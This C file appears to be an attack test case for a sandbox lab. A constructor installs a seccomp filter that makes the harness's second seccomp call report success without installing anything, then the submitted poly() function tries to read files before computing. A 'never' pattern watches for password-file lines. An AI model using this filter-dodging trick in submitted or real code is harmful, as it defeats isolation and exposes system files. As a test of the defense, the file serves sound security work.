// attack: makes the second filter's installation succeed without one, then reads files
// lab: x01
// expect: PASS correct
// never: root:x:|nobody:
// layer: Landlock; behind it the empty root
#include "lab.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/syscall.h>

#include "show.h"

__attribute__((constructor)) static void dodge(void)
{
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog p = { 4, f };
    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p);
}

void poly(float *y, const float *x, int64_t n)
{
    show_all();
    honest(y, x, n);
}
